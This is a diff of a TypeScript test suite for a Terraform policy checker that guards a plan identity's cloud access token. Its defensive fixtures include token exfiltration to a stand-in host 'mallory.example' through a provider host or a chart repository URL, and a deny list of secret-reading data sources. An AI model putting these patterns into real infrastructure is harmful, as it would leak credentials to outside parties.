@@ -8,12 +8,13 @@ import { contextOf, exampleFiles, ROOT, terraformOf } from './fleets';
 
 const REGISTRY = 'https://registry.npmjs.org/';
 const BUCKETS = ['example-staking-terraform-gcp', 'example-staking-terraform-aws'];
+const BOUNDS = { buckets: BUCKETS, projects: ['example-staking-prod'] };
 
 describe('the Terraform that synth renders', () => {
   const stacks = terraformOf(contextOf(exampleFiles()));
 
   it('is let through, every stack of the example fleet', () => {
-    expect([...stacks].flatMap(([id, json]) => wrongInTerraform(json, id, BUCKETS).map((text) => `${id}: ${text}`))).toEqual([]);
+    expect([...stacks].flatMap(([id, json]) => wrongInTerraform(json, id, BOUNDS).map((text) => `${id}: ${text}`))).toEqual([]);
   });
 
   const base = JSON.parse(stacks.get('gke-us-east4-network')!) as Record<string, object>;
@@ -40,14 +41,50 @@ describe('the Terraform that synth renders', () => {
     ['two backends', { terraform: { ...base['terraform'], backend: { gcs: {}, s3: {} } } }, 'there is not one backend'],
   ];
   it.each(wrong)('is refused with %s', (_what, change, said) => {
-    expect(wrongInTerraform(changed({}), 'gke-us-east4-network', BUCKETS)).toEqual([]);
-    expect(wrongInTerraform(changed(change), 'gke-us-east4-network', BUCKETS).join('\n')).toContain(said);
+    expect(wrongInTerraform(changed({}), 'gke-us-east4-network', BOUNDS)).toEqual([]);
+    expect(wrongInTerraform(changed(change), 'gke-us-east4-network', BOUNDS).join('\n')).toContain(said);
   });
 
-  it('may ask for a token of EKS by the cloud\'s command line', () => {
-    const exec = { command: 'aws', args: ['eks', 'get-token', '--cluster-name', 'eks-us-east-2', '--region', 'us-east-2', '--output', 'json'] };
-    expect(wrongInTerraform(changed({ provider: { helm: [{ kubernetes: { host: 'x', exec } }] } }), 'gke-us-east4-network')).toEqual([]);
-    expect(wrongInTerraform(changed({ provider: { helm: [{ kubernetes: { host: 'x', exec: { ...exec, env: { PATH: '/work' } } } }] } }), 'gke-us-east4-network')).not.toEqual([]);
+  it('asks for a token of EKS by the cloud\'s command line alone', () => {
+    const eks = JSON.parse(stacks.get('eks-us-east-2-add-ons')!) as { provider: { helm: [{ kubernetes: { exec: object } }] } };
+    const [{ kubernetes }] = eks.provider.helm;
+    const withExec = (exec: object): string => JSON.stringify({ ...eks, provider: { ...eks.provider, helm: [{ kubernetes: { ...kubernetes, exec } }] } });
+    expect(wrongInTerraform(withExec(kubernetes.exec), 'eks-us-east-2-add-ons', BOUNDS)).toEqual([]);
+    expect(wrongInTerraform(withExec({ ...kubernetes.exec, env: { PATH: '/work' } }), 'eks-us-east-2-add-ons', BOUNDS)).toEqual(['provider "helm" runs "aws"']);
+  });
+
+  describe('shows the plan identity\'s token to the cluster alone', () => {
+    const id = 'gke-us-east4-add-ons';
+    const stack = JSON.parse(stacks.get(id)!) as { provider: { helm: [{ kubernetes: Record<string, string> }] }; data: { google_container_cluster: { cluster: Record<string, string> } }; resource: { helm_release: Record<string, object> } };
+    const [{ kubernetes }] = stack.provider.helm;
+    const TOKEN = '${data.google_client_config.caller.access_token}';
+    const said = (change: object): string => wrongInTerraform(JSON.stringify({ ...stack, ...change }), id, BOUNDS).join('\n');
+    const helm = (change: object): object => ({ provider: { ...stack.provider, helm: [{ kubernetes: { ...kubernetes, ...change } }] } });
+
+    it('and not to another host', () => {
+      expect(said({})).toBe('');
+      expect(said(helm({ host: 'https://mallory.example' }))).toBe('kubernetes.host of provider "helm" is "https://mallory.example"');
+      expect(said(helm({ token: '${nonsensitive(data.google_client_config.caller.access_token)}' }))).toContain('kubernetes.token of provider "helm" is');
+      expect(said(helm({ insecure: true }))).toBe('kubernetes.insecure of provider "helm"');
+    });
+
+    it('nor to a cluster in somebody else\'s project', () => {
+      const { cluster } = stack.data.google_container_cluster;
+      expect(said({ data: { ...stack.data, google_container_cluster: { cluster: { ...cluster, project: 'mallory-1' } } } })).toBe('data "google_container_cluster" of project "mallory-1"');
+      // Without one it would be the provider's, which is the pull request's too.
+      expect(said({ data: { ...stack.data, google_container_cluster: { cluster: { ...cluster, project: undefined } } } })).toBe('data "google_container_cluster" of project undefined');
+    });
+
+    it('nor to whoever reads the plan, nor to a chart\'s repository', () => {
+      expect(said({ output: { x: { value: `\${nonsensitive(${TOKEN.slice(2, -1)})}` } } })).toBe('"output.x.value" holds a token');
+      expect(said({ locals: { x: TOKEN } })).toBe('"locals.x" holds a token');
+      const { gatekeeper } = stack.resource.helm_release;
+      expect(said({ resource: { helm_release: { gatekeeper: { ...gatekeeper, repository: `https://mallory.example/\${data.google_client_config.caller.access_token}` } } } })).toBe('"resource.helm_release.gatekeeper.repository" holds a token');
+    });
+
+    it.each(['google_service_account_access_token', 'google_service_account_id_token', 'aws_eks_cluster_auth', 'aws_secretsmanager_secret_version', 'aws_s3_object', 'google_storage_bucket_object_content', 'aws_ssm_parameter'])('nor gets another by %s', (type) => {
+      expect(said({ data: { ...stack.data, [type]: { x: {} } } })).toBe(`data "${type}"`);
+    });
   });
 });
 
